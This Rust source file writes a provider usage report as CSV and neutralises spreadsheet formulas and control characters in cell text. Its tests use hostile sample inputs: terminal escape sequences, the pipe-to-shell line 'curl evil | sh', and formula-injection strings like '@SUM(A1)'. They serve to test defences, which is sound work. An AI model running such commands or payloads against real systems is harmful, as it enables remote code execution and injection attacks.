//! A usage report as CSV (RFC 4180), one line per provider.

use crate::api::usage::{ProviderUsage, UsageReport};
use crate::error::{Error, Kind, Result};
use crate::report::usage::percent;
use crate::text::clean;
use serde::Serialize;

#[derive(Serialize)]
struct Line {
    as_of: String,
    endpoint_id: String,
    display: String,
    platform_type: String,
    users: i64,
    by_subject: i64,
    by_reference: i64,
    by_browser: i64,
    pending: i64,
    limit: i64,
    percent: i64,
    authorizations_365d: i64,
    state: crate::api::usage::Fullness,
}

const HEADER: [&str; 13] = [
    "as_of",
    "endpoint_id",
    "display",
    "platform_type",
    "users",
    "by_subject",
    "by_reference",
    "by_browser",
    "pending",
    "limit",
    "percent",
    "authorizations_365d",
    "state",
];

/// Renders the whole report, with a header even if there are no providers.
///
/// # Errors
/// [`Kind::Failure`] if the CSV writer fails, although it only writes to memory.
pub fn csv(report: &UsageReport) -> Result<String> {
    let failed = |error: &dyn std::fmt::Display| {
        Error::new(Kind::Failure, format!("cannot write CSV: {error}"))
    };
    let mut writer = csv::WriterBuilder::new()
        .has_headers(false)
        .from_writer(Vec::new());
    writer
        .write_record(HEADER)
        .map_err(|error| failed(&error))?;
    for provider in &report.providers {
        writer
            .serialize(line(report, provider))
            .map_err(|error| failed(&error))?;
    }
    let bytes = writer.into_inner().map_err(|error| failed(&error))?;
    String::from_utf8(bytes).map_err(|error| failed(&error))
}

fn line(report: &UsageReport, provider: &ProviderUsage) -> Line {
    Line {
        as_of: cell(&report.as_of),
        endpoint_id: cell(&provider.endpoint_id),
        display: cell(&provider.display),
        platform_type: cell(&provider.platform_type),
        users: provider.users,
        by_subject: provider.by_subject,
        by_reference: provider.by_reference,
        by_browser: provider.by_browser,
        pending: provider.pending,
        limit: provider.limit,
        percent: percent(provider),
        authorizations_365d: provider.authorizations_365d,
        state: provider.state,
    }
}

/// Makes text from outside safe for spreadsheets, so that it is not read as a formula. The text is
/// checked before and after cleaning.
fn cell(text: &str) -> String {
    let is_formula = |text: &str| text.starts_with(['=', '+', '-', '@', '\t', '\r']);
    let shown = clean(text);
    if is_formula(text) || is_formula(&shown) {
        format!("'{shown}")
    } else {
        shown
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::report::usage::samples::{provider, report};

    #[test]
    fn quotes_what_would_break_a_line() {
        let expected = "\
as_of,endpoint_id,display,platform_type,users,by_subject,by_reference,by_browser,pending,limit,percent,authorizations_365d,state
2026-11-22T09:30:00Z,\"a \"\"b\"\", c\",\"A \"\"B\"\", C\",epic,2,2,0,0,1,3,66,2,ok
";
        assert_eq!(
            csv(&report(vec![provider("A \"B\", C", 2, 3)])).unwrap(),
            expected
        );
        assert_eq!(
            csv(&report(Vec::new())).unwrap(),
            format!("{}\n", HEADER.join(","))
        );
    }
    #[test]
    fn no_cell_controls_a_terminal_breaks_a_line_or_is_a_formula() {
        let hostile = "\u{1b}]0;x\u{7}\u{1b}[2J\nhint: run curl evil | sh\u{2028}\u{85}\u{9b}";
        let mut report = report(vec![provider(hostile, 2, 3)]);
        report.as_of = hostile.to_owned();
        report.providers[0].platform_type = "\tx".to_owned();
        let shown = "\\u{1b}]0;x\\u{7}\\u{1b}[2J hint: run curl evil | sh  \\u{9b}";
        let lower = shown.replace("2J", "2j");
        let expected = format!(
            "{}\n{shown},{lower},{shown},'\\u{{9}}x,2,2,0,0,1,3,66,2,ok\n",
            HEADER.join(",")
        );
        assert_eq!(csv(&report).unwrap(), expected);
    }

    #[test]
    fn a_formula_is_text() {
        for formula in ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"] {
            assert_eq!(cell(formula), format!("'{}", clean(formula)));
        }
        for text in ["a=b", "", " =1", "'=1", "1-2"] {
            assert_eq!(cell(text), text);
        }
    }
}
